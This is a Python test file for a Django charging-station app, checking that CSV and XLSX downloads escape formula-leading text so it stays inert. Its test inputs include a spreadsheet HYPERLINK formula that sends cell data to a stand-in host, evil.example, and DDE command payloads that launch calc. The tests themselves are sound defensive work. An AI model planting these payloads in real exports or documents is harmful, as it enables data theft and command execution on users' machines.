"""CSV and XLSX downloads never carry a live formula: text from chargers and customers comes out inert,
numbers stay numbers."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import Table, inert_text, table_response, xlsx_bytes
from sessions_app.models import StatusEvent
from tests.factories import make_session

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SHORT_LINK = '=HYPERLINK("http://evil.example","Click")'  # fits OCPP's 50-character info


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.50", "-12.50"),  # a formatted negative figure is a number, not a formula
        ("+46 70 123", "'+46 70 123"),
        ("GroundFailure", "GroundFailure"),
        ("", ""),
    ],
)
def test_formula_leading_text_gets_an_apostrophe_and_plain_text_and_numbers_do_not(text, expected):
    assert inert_text(text) == expected


@pytest.mark.parametrize("value", [Decimal("-5.00"), -3, -1.5, None, datetime(2026, 1, 1, tzinfo=UTC)])
def test_values_that_are_not_text_pass_unchanged(value):
    assert inert_text(value) is value


ROW = [HYPERLINK, Decimal("-5.00"), -3, "@cmd", "plain"]


def test_a_csv_download_holds_inert_text_and_its_negative_numbers_as_numbers():
    response = table_response("csv", filename_stem="t", headers=["a", "b", "c", "d", "e"], rows=[ROW])
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1] == ["'" + HYPERLINK, "-5.00", "-3", "'@cmd", "plain"]


def test_an_xlsx_download_has_no_formula_and_keeps_negative_numbers_numeric():
    content = xlsx_bytes(
        [Table(key="t", title="T", headers=["a", "b", "c", "d", "e"], rows=[[*ROW, "bell\x07in text"]])]
    )
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert all(cell.data_type != "f" for cell in cells)
    assert [cell.value for cell in cells] == ["'" + HYPERLINK, -5, -3, "'@cmd", "plain", "bellin text"]
    assert cells[1].data_type == "n" and cells[2].data_type == "n"


def test_a_chargers_vendor_error_text_is_inert_in_the_fault_log_exports(client, world):
    connector = world.cp_a.connectors.get(number=1)
    StatusEvent.objects.create(
        charge_point=world.cp_a,
        connector=connector,
        status="Faulted",
        error_code="OtherError",
        vendor_error_code="=1+2",
        info=SHORT_LINK,
        timestamp=datetime(2026, 3, 10, 10, tzinfo=UTC),
    )
    client.force_login(world.carol)
    params = {"period": "month", "day": "2026-03-15"}
    with time_machine.travel(datetime(2026, 4, 5, 12, tzinfo=UTC), tick=False):
        csv_response = client.get(reverse("admin:reporting_faults"), {**params, "format": "csv"})
        xlsx_response = client.get(reverse("admin:reporting_faults"), {**params, "format": "xlsx"})
    rows = list(csv.reader(io.StringIO(csv_response.content.decode())))
    assert rows[1][3:5] == ["'=1+2", "'" + SHORT_LINK]
    sheet = load_workbook(io.BytesIO(xlsx_response.content)).worksheets[0]
    row = list(sheet.iter_rows(min_row=2))[0]
    assert [row[3].value, row[4].value] == ["'=1+2", "'" + SHORT_LINK]
    assert all(cell.data_type != "f" for cell in row)


def test_the_drivers_history_csv_is_written_inert_too(client, world):
    world.site_a.name = "=cmd|'/C calc'!A0"
    world.site_a.save()
    make_session(world.cp_a.connectors.get(number=1), world.alice_card)
    client.force_login(world.alice)
    response = client.get(reverse("history_export_csv"))
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(content)))
    site = rows[0].index("site")
    assert rows[1][site] == "'=cmd|'/C calc'!A0"
